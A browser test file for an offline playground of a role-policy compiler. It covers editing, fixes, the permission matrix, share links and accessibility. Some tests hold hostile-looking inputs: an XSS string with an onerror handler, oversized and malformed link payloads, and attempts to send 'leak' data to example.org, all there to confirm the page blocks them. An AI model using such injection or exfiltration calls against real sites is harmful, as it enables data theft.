// The page as people use it, opened from the disk in a browser that reaches nothing. web/test runs it.
import assert from "node:assert/strict";
import { existsSync, readdirSync, readFileSync } from "node:fs";
import { createServer } from "node:http";
import path from "node:path";
import test, { after, before } from "node:test";
import { fileURLToPath, pathToFileURL } from "node:url";
import axe from "axe-core";
import { chromium } from "playwright-core";

const here = path.dirname(fileURLToPath(import.meta.url));
const root = path.dirname(here);
const url = pathToFileURL(path.join(here, "dist/polc.html")).href;
const flags = ["--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking", "--disable-component-update", "--disable-sync"];

let browser;
before(async () => {
  browser = await chromium.launch({ executablePath: process.env.CHROMIUM ?? "/usr/bin/chromium", args: flags });
});
after(() => browser.close());

/** Opens the page, lets somebody use it, and sees that it asked for nothing and complained about nothing but what is expected. */
async function visit(hash, use, { expected = /^$/, ...options } = {}) {
  const context = await browser.newContext({ viewport: { width: 1280, height: 800 }, ...options });
  const page = await context.newPage();
  const [asked, said] = [[], []];
  await context.route("**/*", (route) => (route.request().url().startsWith("file:") ? route.continue() : route.abort()));
  page.on("request", (request) => asked.push(request.url()));
  page.on("console", (message) => said.push(`${message.type()}: ${message.text()}`));
  page.on("pageerror", (error) => said.push(String(error)));
  await page.goto(url + hash);
  await worked(page);
  await use(page);
  const others = asked.filter((one) => !one.startsWith(url) && !one.startsWith("data:"));
  await context.close();
  assert.deepEqual([...others, ...said].filter((one) => !expected.test(one)), []);
}

/** Everything is up to date: the hands rest, and the answer is there. */
async function worked(page) {
  await page.waitForFunction(() => document.body.dataset.state === "rest", null, { timeout: 30_000 });
}

/** Types a text in place of what is in the file that is shown. */
async function type(page, text) {
  await page.click(".cm-content");
  await page.keyboard.press("Control+a");
  await page.keyboard.insertText(text);
  await worked(page);
}

const text = (page) => page.$eval(".cm-content", (content) => [...content.querySelectorAll(".cm-line")].map((line) => line.textContent).join("\n"));
const texts = (page, selector) => page.$$eval(selector, (all) => all.map((one) => one.textContent.trim()));

async function accessible(page, where) {
  await page.evaluate(axe.source);
  const { violations } = await page.evaluate(() => axe.run(document, { resultTypes: ["violations"] }));
  const told = violations.map(({ id, nodes }) => `${id}: ${nodes.map(({ target, failureSummary }) => `${target} ${failureSummary}`).join("; ")}`);
  assert.deepEqual(told, [], where);
}

test("a mistake is told where it stands, and the fix that is offered is made", async () => {
  await visit("", async (page) => {
    await type(page, "/// Readers.\nrole a < cases: raed; >\n");
    assert.deepEqual(await texts(page, "#problems .error .message"), ["cases has no privilege raed"]);
    assert.equal(await page.textContent("#count"), "1 error");
    assert.match(await page.textContent("#stale"), /Nothing is built from a policy with 1 error/);
    assert.equal(await page.textContent(".cm-lintRange-error"), "raed");
    await page.hover(".cm-lintRange-error");
    await page.waitForSelector(".cm-tooltip .help");
    assert.match(await page.textContent(".cm-tooltip"), /cases has no privilege raed.*cases has all, read.*Write read.*unknown-privilege/s);
    await page.keyboard.press("Escape");
    await page.click("#problems .place");
    assert.equal(await page.evaluate(() => document.activeElement.className.includes("cm-content")), true);
    await page.click("#problems .fix");
    await worked(page);
    assert.equal(await text(page), "/// Readers.\nrole a < cases: read; >\n");
    // What the fix was made with is gone; the keyboard is in the editor.
    assert.equal(await page.evaluate(() => document.activeElement.className.includes("cm-content")), true);
    assert.equal(await page.textContent("#count"), "Nothing to complain about");
    assert.deepEqual(await texts(page, "figcaption .target"), ["kibana-9.5"]);
    // It can be undone, as what is typed can.
    await page.click(".cm-content");
    await page.keyboard.press("Control+z");
    await worked(page);
    assert.match(await text(page), /raed/);
  });
});

test("the editor knows the language: its colours and its indents", async () => {
  await visit("", async (page) => {
    await type(page, 'abstract role base < in soc < "siemV5": read; > >\nrole a extends base < tags: < index: "x"; >; cases: all - delete; >\n');
    const coloured = (name) => texts(page, `.cm-content .tok-${name}`);
    assert.deepEqual(await coloured("keyword"), ["abstract", "role", "in", "role", "extends"]);
    assert.deepEqual(await coloured("typeName"), ["base", "a", "base"]);
    assert.deepEqual([await coloured("namespace"), await coloured("string")], [["soc"], ['"siemV5"', '"x"']]);
    assert.deepEqual([await coloured("labelName"), await coloured("atom")], [["delete"], ["read", "all"]]);
    await type(page, "");
    await page.keyboard.type("role a <\ncases: read;\nin soc <\nalerts: read;\n>\n>");
    assert.equal(await text(page), "role a <\n  cases: read;\n  in soc <\n    alerts: read;\n  >\n>");
  });
});

test("a finding names its document, with a link that leads there", async () => {
  await visit("#example=what-a-reviewer-would-say", async (page) => {
    assert.match(await page.textContent("#problems"), /cases-all-without-connectors/);
    const link = await page.$("#problems .note a");
    assert.match(await link.getAttribute("href"), /^https:\/\/www\.elastic\.co\//);
    assert.match(await link.getAttribute("rel"), /noreferrer/);
    await page.click("#problems summary");
    await page.waitForSelector("#problems details pre");
    assert.match(await page.textContent("#problems details"), /Full access to cases is documented as all on Cases/);
    assert.deepEqual(await texts(page, "#problems details h3"), ["Instead"]);
    assert.ok((await texts(page, "#problems details a")).includes("Elastic docs: Cases requirements"));
    await accessible(page, "a finding explained");
  });
});

test("documents of all targets stand side by side, and what is only in one is marked", async () => {
  await visit("#example=soc", async (page) => {
    assert.equal(await page.inputValue("#role"), "soc_tier1");
    assert.deepEqual(await texts(page, "figcaption .target"), ["dr", "prod"]);
    const documents = await texts(page, "figure pre");
    assert.equal(JSON.parse(documents[0]).kibana.length > 0, true);
    assert.notEqual(documents[0], documents[1]);
    assert.ok((await page.$$("figure mark")).length > 0);
    const boxes = await Promise.all((await page.$$("figure")).map((figure) => figure.boundingBox()));
    assert.ok(boxes[0].y === boxes[1].y && boxes[0].x < boxes[1].x, JSON.stringify(boxes));
    await page.selectOption("#role", "soc_manager");
    assert.notDeepEqual(await texts(page, "figure pre"), documents);
    // The role that the cursor stands in is the one that is shown.
    await page.click('.cm-line:has-text("role soc_tier2")');
    assert.equal(await page.inputValue("#role"), "soc_tier2");
  });
});

test("polc.toml has a tab, and what it says goes", async () => {
  await visit("#example=a-first-policy", async (page) => {
    assert.deepEqual(await texts(page, "#files [role=tab]"), ["roles.pol", "polc.toml"]);
    await page.click("#files [role=tab] >> nth=1");
    await type(page, '[targets.old]\nrelease = "9.2"\n[targets.new]\nrelease = "9.4"\n');
    assert.deepEqual(await texts(page, "figcaption .target"), ["new", "old"]);
    await type(page, '[targets.old]\nrelese = "9.2"\n');
    assert.match(await page.textContent("#problems"), /relese/);
    await type(page, "");
    assert.deepEqual(await texts(page, "figcaption .target"), ["kibana-9.5"]);
  });
});

test("a cell of the matrix says why, and where", async () => {
  await visit("#example=soc", async (page) => {
    await page.click("#tab-matrix");
    await worked(page);
    const columns = await texts(page, "thead th");
    const rows = await texts(page, "tbody th");
    assert.ok(columns.includes("cases") && rows.some((row) => row.startsWith("soc_lead")), `${columns} ${rows}`);
    await page.click('button.cell[aria-label^="soc_tier1, cases, prod"]');
    await page.waitForSelector("#answer .yes");
    assert.match(await page.textContent("#answer .verdict"), /^soc_tier1 can cases: comment \+ read \+ reopen in "soc" on prod/);
    assert.ok((await texts(page, "#answer li")).length > 0);
    await page.click("#answer .place >> nth=0");
    assert.ok((await page.evaluate(() => document.getSelection().toString())).length > 0);
    // What is not held has the statement that would give it.
    await page.fill("#subject", "soc_tier1");
    await page.fill("#claim", "cases.delete");
    await page.press("#claim", "Enter");
    await page.waitForSelector("#answer .no");
    assert.match(await page.textContent("#answer .give"), /cases \+= delete;/);
    await page.fill("#claim", "cases.delte");
    await page.press("#claim", "Enter");
    await page.waitForSelector("#answer .refused");
    assert.match(await page.textContent("#answer"), /did you mean delete/);
    await page.check("#privileges");
    await worked(page);
    assert.ok((await texts(page, "thead th")).includes("cases.read"));
    await page.check("#privileged");
    await worked(page);
    assert.ok(!(await texts(page, "thead th")).includes("cases.read"));
  });
});

/** What stands under a folder of examples, read from the disk. */
function onDisk(name) {
  const folder = path.join(root, "examples", name);
  const names = readdirSync(folder, { recursive: true }).filter((file) => /\.pol$|^polc(-baseline)?\.(toml|json)$/.test(file));
  return Object.fromEntries(names.map((file) => [file, readFileSync(path.join(folder, file), "utf8")]));
}

test("every cell of every example has an answer", async () => {
  await visit("", async (page) => {
    for (const name of ["both", "contact-centre", "serverless"]) {
      await page.selectOption("#example", name);
      await page.click("#tab-matrix");
      await worked(page);
      const wrong = await page.evaluate(async () => {
        const wrong = [];
        for (const cell of document.querySelectorAll("#matrix button")) {
          const answer = document.getElementById("answer");
          answer.replaceChildren();
          cell.click();
          while (!answer.firstChild) await new Promise((done) => setTimeout(done, 1));
          const { value } = document.getElementById("claim");
          if (answer.querySelector(".refused") || !answer.querySelector(".answer")) wrong.push(`${cell.ariaLabel} ${value}: ${answer.textContent}`);
          const expected = { "·": "no", "all−": "part" }[cell.textContent] ?? "yes";
          if (!answer.querySelector(`.answer.${expected}`)) wrong.push(`${cell.ariaLabel} ${value}: ${answer.textContent}`);
        }
        return wrong;
      });
      assert.deepEqual(wrong, [], name);
    }
  });
});

test("the menu has the examples of the repository, as they are", async () => {
  await visit("", async (page) => {
    const names = await page.$$eval('#example optgroup[label="Examples"] option', (all) => all.map((one) => one.value));
    const folders = readdirSync(path.join(root, "examples")).sort();
    assert.deepEqual(names, folders.filter((name) => existsSync(path.join(root, "examples", name, "polc.toml"))));
    for (const name of names) {
      await page.selectOption("#example", name);
      await worked(page);
      const files = onDisk(name);
      assert.deepEqual((await page.$$eval("#files [role=tab]", (all) => all.map((one) => one.dataset.name))).sort(), Object.keys(files).sort());
      assert.deepEqual(await texts(page, "#problems .error"), [], name);
      assert.ok((await page.$$("figure")).length > 0, name);
    }
    const mistakes = await page.$$eval('#example optgroup[label="From the README"] option', (all) => all.map((one) => one.value));
    assert.ok(mistakes.includes("what-a-mistake-looks-like"), String(mistakes));
  });
});

test("a policy is laid out, and a mistake keeps it from that", async () => {
  await visit("", async (page) => {
    await type(page, "role a<cases:read;>");
    await page.click("#format");
    await worked(page);
    assert.equal(await text(page), "role a < cases: read; >\n");
    assert.equal(await page.textContent("#status"), "Laid out.");
    await type(page, "role a < cases read >");
    await page.click(".cm-content");
    await page.keyboard.press("Alt+Shift+F");
    await page.waitForFunction(() => document.getElementById("status").textContent.includes("cannot be laid out"));
  });
});

test("a link holds the whole policy", async () => {
  const policy = '/// </script><img src=x onerror="document.title = 1">\nrole "a </script>" < cases: read; >\n// 🦀 é\n';
  let shared;
  await visit("", async (page) => {
    await type(page, policy);
    await page.click("#share");
    await page.waitForFunction(() => location.hash.startsWith("#policy="));
    assert.match(await page.textContent("#status"), /nothing was sent anywhere/);
    shared = new URL(page.url()).hash;
  });
  await visit(shared, async (page) => {
    assert.equal(await text(page), policy);
    assert.deepEqual(await texts(page, "#role option"), ["a </script>"]);
    await page.click("#tab-matrix");
    await worked(page);
    assert.equal(await page.title(), "polc playground");
  });
});

test("the way back from an example leads to what was typed", async () => {
  await visit("", async (page) => {
    await type(page, "role mine < cases: read; >\n");
    await page.selectOption("#example", "soc");
    await page.waitForSelector("[data-name='guards.pol']");
    await worked(page);
    await page.goBack();
    await page.waitForSelector(".cm-line:has-text('role mine')");
    await worked(page);
    assert.deepEqual(await texts(page, "#role option"), ["mine"]);
  });
});

test("a link that is broken, or a trap, says so and harms nobody", async () => {
  const { deflateRawSync } = await import("node:zlib");
  const packed = (value) => deflateRawSync(typeof value === "string" ? value : JSON.stringify(value)).toString("base64url");
  const traps = ["%%%", "AAAA", packed("[1, 2]"), packed({ "notes.txt": "" }), packed({ "a.pol": 1 }), packed({ "polc.toml": "" }), packed({ "a.pol": " ".repeat(50_000_000) })];
  await visit("", async (page) => {
    for (const trap of traps) {
      await page.evaluate((trap) => {
        document.getElementById("status").textContent = "";
        location.hash = `policy=${trap}`;
      }, trap);
      await page.waitForFunction(() => document.getElementById("status").textContent.startsWith("The link cannot be read: "), null, { timeout: 10_000 });
      await worked(page);
      assert.equal(await page.textContent("#count"), "Nothing to complain about");
    }
  });
});

test("nothing can leave the page", async () => {
  await visit("", async (page) => {
    const policy = await page.getAttribute("meta[http-equiv]", "content");
    assert.match(policy, /^default-src 'none';/);
    assert.doesNotMatch(policy, /connect-src|https?:|\*|unsafe-eval'? |form-action (?!'none')/);
    const refused = await page.evaluate(async () => {
      const found = [];
      document.addEventListener("securitypolicyviolation", (event) => found.push(event.effectiveDirective));
      new Image().src = "https://example.org/?leak";
      await fetch("https://example.org/", { method: "POST", body: "leak" }).catch(() => {});
      document.body.append(Object.assign(document.createElement("iframe"), { src: "https://example.org/?leak" }));
      document.head.append(Object.assign(document.createElement("script"), { textContent: "document.title = 'leak'" }));
      for (let wait = 0; found.length < 4 && wait < 100; wait += 1) await new Promise((done) => setTimeout(done, 20));
      return found.sort();
    });
    assert.deepEqual(refused, ["connect-src", "frame-src", "img-src", "script-src-elem"]);
    assert.equal(await page.title(), "polc playground");
    // What was tried is seen, and what the browser refused it says on its console.
  }, { expected: /example\.org|inline script/ });
});

test("it runs in a frame of a site as it runs from the disk", async () => {
  const pages = { "/": '<iframe src="polc.html#example=soc" title="polc" style="width: 1200px; height: 700px"></iframe>', "/polc.html": readFileSync(fileURLToPath(url)) };
  const asked = [];
  const server = createServer((request, response) => {
    asked.push(request.url);
    response.writeHead(request.url in pages ? 200 : 404, { "Content-Type": "text/html" }).end(pages[request.url] ?? "");
  });
  await new Promise((done) => server.listen(0, "127.0.0.1", done));
  const page = await browser.newPage();
  await page.goto(`http://127.0.0.1:${server.address().port}/`);
  const frame = page.frameLocator("iframe");
  await frame.locator("figure").first().waitFor();
  assert.deepEqual(await frame.locator("figcaption .target").allTextContents(), ["dr", "prod"]);
  await page.close();
  server.close();
  // The browser asks for an icon of the page around it.
  assert.deepEqual(asked.filter((one) => one !== "/favicon.ico"), ["/", "/polc.html"]);
});

test("it is accessible: light, dark, and on a phone", async () => {
  for (const [colorScheme, width] of [["light", 1280], ["dark", 1280], ["light", 390], ["dark", 390]]) {
    const options = { colorScheme, viewport: { width, height: 844 } };
    await visit("#example=what-a-mistake-looks-like", async (page) => {
      await accessible(page, `${colorScheme}, ${width}: mistakes`);
      await page.selectOption("#example", "what-a-reviewer-would-say");
      await worked(page);
      await accessible(page, `${colorScheme}, ${width}: a warning`);
      await page.selectOption("#example", "soc");
      await worked(page);
      await accessible(page, `${colorScheme}, ${width}: documents`);
      await page.click("#tab-matrix");
      await worked(page);
      for (const [cell, answer] of [["all", "yes"], ["nothing", "no"]]) {
        await page.click(`button.cell.${cell} >> nth=0`);
        await page.waitForSelector(`#answer .${answer}`);
        await accessible(page, `${colorScheme}, ${width}: the matrix, ${answer}`);
      }
      await page.click("footer summary");
      assert.match(await page.textContent("footer pre"), /miette .*@codemirror\/state .*Permission is hereby granted/s);
      await accessible(page, `${colorScheme}, ${width}: licences`);
      const isWider = await page.evaluate(() => document.documentElement.scrollWidth > window.innerWidth);
      assert.equal(isWider, false, "nothing is pushed out of the window");
    }, options);
  }
});

test("it is used by keyboard alone", async () => {
  await visit("#example=soc", async (page) => {
    const focused = () => page.evaluate(() => document.activeElement.id || document.activeElement.className || document.activeElement.tagName);
    const order = [];
    for (let n = 0; n < 12; n += 1) {
      await page.keyboard.press("Tab");
      order.push(await focused());
    }
    for (const stop of ["example", "format", "share", "theme", "file-0", "tab-documents", "role"]) assert.ok(order.includes(stop), `${stop}: ${order}`);
    // The editor lets go of the Tab key.
    assert.ok(order.some((stop) => stop.includes("cm-content")), String(order));
    await page.focus("#tab-documents");
    await page.keyboard.press("ArrowRight");
    await worked(page);
    assert.equal(await page.isVisible("#panel-matrix"), true);
    await page.focus("#matrix button");
    await page.keyboard.press("ArrowDown");
    await page.keyboard.press("ArrowRight");
    const label = await page.evaluate(() => document.activeElement.ariaLabel);
    assert.match(label, /Why\?$/);
    await page.keyboard.press("Enter");
    await page.waitForSelector("#answer .answer");
    // A theme that was chosen goes over that of the system.
    await page.focus("#theme");
    await page.keyboard.press("Enter");
    assert.equal(await page.getAttribute("html", "data-theme"), "dark");
  });
});

test("a keystroke in a policy of 200 roles is answered before the next picture", async () => {
  let policy = "";
  for (let n = 0; n < 200; n += 1) {
    const parent = n % 10 ? ` extends team_${n - (n % 10)}` : "";
    policy += `/// Team ${n}.\nrole team_${n}${parent} <\n  spaces: team-${n % 20};\n  cases: read + reopen;\n  alerts: all;\n  rules: read;\n  index "logs-${n}-*": read;\n>\n`;
  }
  const { deflateRawSync } = await import("node:zlib");
  await visit(`#policy=${deflateRawSync(JSON.stringify({ "a.pol": policy })).toString("base64url")}`, async (page) => {
    await page.evaluate(() => {
      window.took = [];
      let pressed;
      window.addEventListener("keydown", (event) => (pressed = event.timeStamp), { capture: true });
      // The page says so when what is found is shown.
      performance.mark = () => window.took.push(performance.now() - pressed);
    });
    await page.click('.cm-line:has-text("cases: read + reopen") >> nth=2');
    await page.keyboard.press("End");
    const keys = " alerts: read; // raed\n cases += comment; ".repeat(3);
    for (const key of keys) {
      await page.keyboard.type(key);
      await page.waitForTimeout(15);
    }
    await worked(page);
    const took = (await page.evaluate(() => window.took)).sort((a, b) => a - b);
    const at = (share) => took[Math.min(took.length - 1, Math.floor(took.length * share))].toFixed(1);
    console.log(`from a key to its findings, ${took.length} times: p50 ${at(0.5)} ms, p90 ${at(0.9)} ms, p99 ${at(0.99)} ms`);
    assert.ok(took.length > 50, String(took.length));
    // A shared machine may be busy: half of them is what a test can hold on to.
    assert.ok(Number(at(0.5)) < 16, `p50 is ${at(0.5)} ms`);
  });
});

test("the picture of the documents", { skip: !process.env.SCREENSHOT }, async () => {
  await visit("#example=soc", async (page) => {
    await page.click("#tab-matrix");
    await worked(page);
    await page.click('button.cell[aria-label^="soc_lead, cases, prod"]');
    await page.waitForSelector("#answer .answer");
    await page.screenshot({ path: process.env.SCREENSHOT });
  });
});
